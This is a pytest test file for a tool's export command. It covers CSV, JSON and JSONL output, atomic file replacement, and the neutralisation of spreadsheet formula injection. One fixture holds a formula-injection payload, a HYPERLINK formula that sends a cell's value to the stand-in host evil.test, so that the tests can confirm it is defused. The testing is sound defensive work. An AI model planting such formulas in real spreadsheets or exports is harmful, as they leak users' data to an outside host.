"""`prospector export`: the report's lists as files an outreach tool imports, through the
real CLI and a DB built with the real Store; formula injection neutralised."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from prospector.models import Candidate, Contact, FetchedPage, PageFacts
from prospector.report.export import COLUMNS, neutralise
from prospector.score import rescore
from prospector.store.db import Store
from tests.conftest import run_cli

EVIL_TITLE = '=HYPERLINK("http://evil.test/?"&A1,"click")'


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("export") / "x.duckdb"
    sites = [("bees.test", "Bees “café” 🐝", "beekeeping blog", "blog",
              (Contact("email", "jo@bees.test", "http://bees.test/", "text", 0.9, "personal"),
               Contact("form", "http://bees.test/contact", "http://bees.test/", "", 0.8))),
             ("hive-forum.test", "Hive forum", "beekeeping forum", "forum",
              (Contact("email", "admin@hive-forum.test", "http://hive-forum.test/", "", 0.9, "role"),)),
             ("evil.test", EVIL_TITLE, "beekeeping", "newsletter",
              (Contact("phone", "+441234567890", "http://evil.test/", "", 0.5),))]
    with Store.open(path) as store:
        run = store.start_run("beekeeping", "{}")
        store.add_candidates(run, [Candidate(f"http://{d}/", d, "@import search: " + d)
                                   for d, *_ in sites])
        store.add_pages(run, [
            FetchedPage(d, f"http://{d}/", 200, "text/html", 1,
                        PageFacts(url=f"http://{d}/", domain=d, title=t, text=x, kind=k, contacts=c))
            for d, t, x, k, c in sites])
        store.finish_run(run, "done")
        rescore(store)
    return path


def _export(db: Path, out: Path, *args: str) -> str:
    result = run_cli("export", "--db", str(db), "--out", str(out), *args, timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    return out.read_bytes().decode("utf-8")


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"),
    ("+441234", "'+441234"),
    ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "'\rCR"),
    ('=HYPERLINK("x")', "'=HYPERLINK(\"x\")"),
    ("a=1", "a=1"),
    ("jo@bees.test", "jo@bees.test"),
    (" =1", " =1"),
    ("", ""),
    (42.5, 42.5),
    (-3, -3),  # numbers are data, never formulas
    (None, None),
])
def test_neutralise(cell: object, expected: object) -> None:
    assert neutralise(cell) == expected


def test_csv_has_header_and_neutralised_cells(db: Path, tmp_path: Path) -> None:
    text = _export(db, tmp_path / "jv.csv", "--format", "csv")
    assert not text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS
    by_domain = {r["domain"]: r for r in rows}
    assert set(by_domain) == {"bees.test", "evil.test"}  # forums are communities, not JV
    assert by_domain["evil.test"]["name"] == "'" + EVIL_TITLE
    assert by_domain["evil.test"]["contact"] == "'+441234567890"
    assert by_domain["bees.test"]["why"] == "'@import search: bees.test"
    assert by_domain["bees.test"]["name"] == "Bees “café” 🐝"
    assert by_domain["bees.test"]["email"] == "jo@bees.test"
    assert by_domain["bees.test"]["channel"] == "email"
    assert by_domain["bees.test"]["role"] == "personal"
    assert float(by_domain["bees.test"]["score"]) > 0
    for row in rows:
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_csv_bom_for_spreadsheets(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "jv.csv"
    _export(db, out, "--format", "csv", "--bom")
    assert out.read_bytes().startswith(b"\xef\xbb\xbfdomain,url,")


def test_json_and_jsonl(db: Path, tmp_path: Path) -> None:
    rows = json.loads(_export(db, tmp_path / "c.json", "--format", "json", "--list", "communities"))
    assert {r["domain"] for r in rows} == {"hive-forum.test", "bees.test"}
    assert list(rows[0]) == list(COLUMNS)
    lines = _export(db, tmp_path / "n.jsonl", "--format", "jsonl", "--list", "newsletters").splitlines()
    assert [json.loads(line)["domain"] for line in lines] == ["evil.test"]
    assert json.loads(lines[0])["name"] == "'" + EVIL_TITLE


def test_contacts_list_has_one_row_per_contact(db: Path, tmp_path: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(
        _export(db, tmp_path / "contacts.csv", "--format", "csv", "--list", "contacts"))))
    assert len(rows) == 4
    bees = [(r["channel"], r["email"], r["contact"]) for r in rows if r["domain"] == "bees.test"]
    assert bees == [("email", "jo@bees.test", "jo@bees.test"),
                    ("form", "", "http://bees.test/contact")]


def test_lists_follow_the_views(db: Path, tmp_path: Path) -> None:
    with Store.open(db, read_only=True) as store:
        ranked = [r["domain"] for r in store.rows("SELECT domain FROM communities")]
    rows = json.loads(_export(db, tmp_path / "c.json", "--format", "json", "--list", "communities"))
    assert [r["domain"] for r in rows] == ranked


@pytest.mark.parametrize(("args", "message"), [
    (["--format", "xml"], "invalid choice"),
    (["--format", "json", "--bom"], "--bom applies to csv only"),
    (["--format", "csv", "--list", "everything"], "invalid choice"),
])
def test_bad_flags_are_one_line_errors(db: Path, tmp_path: Path, args: list[str], message: str) -> None:
    out = tmp_path / "x.out"
    result = run_cli("export", "--db", str(db), "--out", str(out), *args, timeout=60)
    assert result.returncode == 2
    assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert not out.exists()


def test_out_path_problems(db: Path, tmp_path: Path) -> None:
    for out, message in ((tmp_path, "is a directory"), (tmp_path / "nope" / "x.csv", "does not exist")):
        result = run_cli("export", "--format", "csv", "--db", str(db), "--out", str(out), timeout=60)
        assert result.returncode == 2, result.stderr
        assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
    missing = run_cli("export", "--format", "csv", "--db", str(tmp_path / "none.duckdb"),
                      "--out", str(tmp_path / "x.csv"), timeout=60)
    assert missing.returncode == 3 and "no database" in missing.stderr


def replaced_whole(out: Path, write: Callable[[], object]) -> str:
    """'' when `write` put a new file in `out`'s place; otherwise what went wrong. A
    reader that opened the old file reads it whole to the end (a file rewritten in place
    would change under it, and a crash half-way would leave half a file)."""
    out.write_text("old", "utf-8")
    before = out.stat().st_ino
    with out.open(encoding="utf-8") as reader:
        write()
        seen = reader.read()
    if seen != "old" or out.stat().st_ino == before:
        return f"rewritten in place: an open reader saw {seen[:20]!r}"
    return ""


def test_export_replaces_atomically(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "jv.csv"
    assert replaced_whole(out, lambda: _export(db, out, "--format", "csv")) == ""
    assert out.read_text("utf-8").startswith("domain,")
    assert [p.name for p in tmp_path.iterdir()] == ["jv.csv"]  # no temp file left behind


def test_a_plain_write_is_caught(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 25's mutation: the export written with a plain write_text, in place."""
    from prospector.report import export

    def in_place(out: Path, text: str, *, newline: str | None = None) -> None:
        out.write_text(text, "utf-8", newline=newline)

    monkeypatch.setattr(export, "write_atomic", in_place)
    out = tmp_path / "jv.csv"
    with Store.open(db, read_only=True) as store:
        assert "rewritten in place" in replaced_whole(out, lambda: export.write_export(store, out, "csv"))
